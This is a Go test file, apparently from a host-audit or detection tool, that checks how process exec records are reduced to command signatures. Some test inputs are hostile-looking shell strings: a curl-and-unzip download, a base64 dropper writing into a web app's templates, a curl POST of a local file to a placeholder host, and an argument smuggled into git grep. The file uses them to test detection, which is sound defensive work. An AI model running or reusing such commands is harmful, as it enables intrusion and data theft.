package timeline

import (
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestCommandExec: a process's command is the exec it settled on at its
// start, past a launcher that replaced itself at once.
func TestCommandExec(t *testing.T) {
	t0 := time.Date(2026, 12, 3, 15, 42, 25, 0, time.UTC)
	ex := func(ms int, args ...string) parser.Exec {
		return parser.Exec{Time: t0.Add(time.Duration(ms) * time.Millisecond), Exe: args[0], Args: args, Serial: uint64(1000 + ms)}
	}
	for _, c := range []struct {
		name  string
		execs []parser.Exec
		want  string
	}{
		{"jspawnhelper then id", []parser.Exec{ex(0, "/usr/lib/jvm/java-17/lib/jspawnhelper", "17.0.15", "54:55:57"), ex(1, "/usr/bin/id")}, "/usr/bin/id"},
		{"env nohup chain", []parser.Exec{ex(0, "/usr/bin/env", "X=1", "nohup", "foo"), ex(1, "/usr/bin/nohup", "foo"), ex(2, "/usr/local/bin/foo")}, "/usr/local/bin/foo"},
		{"one exec", []parser.Exec{ex(0, "/usr/bin/dash", "sh", "-c", "date")}, "/usr/bin/dash"},
		{"a later exec is the process's own", []parser.Exec{ex(0, "/usr/bin/dash", "sh", "-c", "sleep 5; exec foo"), ex(5000, "/usr/bin/foo")}, "/usr/bin/dash"},
		{"the inherited image is no exec", []parser.Exec{{Time: t0, Exe: "/usr/bin/java", Inherited: true}, ex(3, "/usr/bin/id")}, "/usr/bin/id"},
	} {
		p := &parser.Process{Execs: c.execs}
		got, ok := commandExec(p)
		if !ok || got.Exe != c.want {
			t.Errorf("%s: command %q (%v), want %q", c.name, got.Exe, ok, c.want)
		}
	}
}

// TestCommandSig: two scripts run by one shell are two commands.
func TestCommandSig(t *testing.T) {
	for _, c := range []struct {
		exe  string
		args []string
		want string
	}{
		{"/usr/bin/dash", []string{"sh", "-c", "date -u"}, "dash|date -u"},
		{"/usr/bin/dash", []string{"sh", "-c", "curl -fsS -o '/tmp/p.zip' 'http://h/p.zip' && unzip -o -q /tmp/p.zip"}, "dash|curl -fsS -o; unzip"},
		// the whole code makes the shape: a web shell's echo and a
		// dropper's echo | base64 -d are two commands (berthplan-rules)
		{"/usr/bin/dash", []string{"sh", "-c", "echo tide-ok"}, "dash|echo"},
		{"/usr/bin/dash", []string{"sh", "-c", "echo eyUg | base64 -d > /srv/app/templates/t.html && ls -la /srv/app"}, "dash|echo; base64; ls"},
		{"/usr/bin/dash", []string{"sh", "-c", "curl -s -m 5 -X POST -d @/tmp/w-1.json http://h/hook"}, "dash|curl -s -m -X -d"},
		{"/usr/bin/dash", []string{"/bin/sh", "/usr/sbin/sendmail", "-t", "-i"}, "dash sendmail"},
		{"/usr/bin/dash", []string{"/bin/sh", "/usr/local/bin/stocklabel", "--sku", "X"}, "dash stocklabel"},
		{"/usr/bin/python3.11", []string{"python3", "-m", "http.server"}, "python3.11 -m"},
		{"/usr/bin/convert", []string{"convert", "/tmp/a.png", "-resize", "64x64"}, "convert -resize"},
		// a cd is no command: the program run in the folder is, and the
		// folder (its ids abstracted) says what it works on: a ticket's
		// and a reply's thumbnails are two commands (benign-desk), one
		// ticket's and another's are one
		{"/usr/bin/dash", []string{"sh", "-c", "cd '/srv/deskline/www/attachments/1100' && /usr/bin/convert 'IMG_0931.png[0]' -thumbnail 160x160 /srv/deskline/www/thumbs/1100.png 2>&1"}, "dash|cd /srv/deskline/www/attachments/<id> && convert"},
		{"/usr/bin/dash", []string{"sh", "-c", "cd '/srv/deskline/www/attachments/1007/replies' && /usr/bin/convert 'IMG_4402.JPG[0]' -thumbnail 160x160 /srv/deskline/www/thumbs/1007-r1.png 2>&1"}, "dash|cd /srv/deskline/www/attachments/<id>/replies && convert"},
		// the program's name only: an option a request smuggled into its
		// argv makes no new command of a search (kb-docs)
		{"/usr/bin/dash", []string{"sh", "-c", "cd /srv/kb/docs && git -c safe.directory=/srv/kb/docs grep -n -i -I '--count' 'vpn' 2>&1"}, "dash|cd /srv/kb/docs && git"},
		{"/usr/bin/dash", []string{"sh", "-c", "cd /tmp"}, "dash|cd"},
	} {
		if got := commandSig(&parser.Event{Exe: c.exe, Args: c.args}); got != c.want {
			t.Errorf("commandSig(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}

// TestShortSigSaysWhatRan: a link's reason names a command's shape as it
// ran: "dash -c date" for a shell given a command string, "dash stocklabel"
// for a shell running a script file (no -c in its argv).
func TestShortSigSaysWhatRan(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"sh", "-c", "date -u"}, "dash -c date -u"},
		{[]string{"/bin/sh", "/usr/local/bin/stocklabel", "--sku", "X"}, "dash stocklabel"},
	} {
		if got := shortSig(commandSig(&parser.Event{Exe: "/usr/bin/dash", Args: c.args})); got != c.want {
			t.Errorf("%q: %q, want %q", c.args, got, c.want)
		}
	}
}
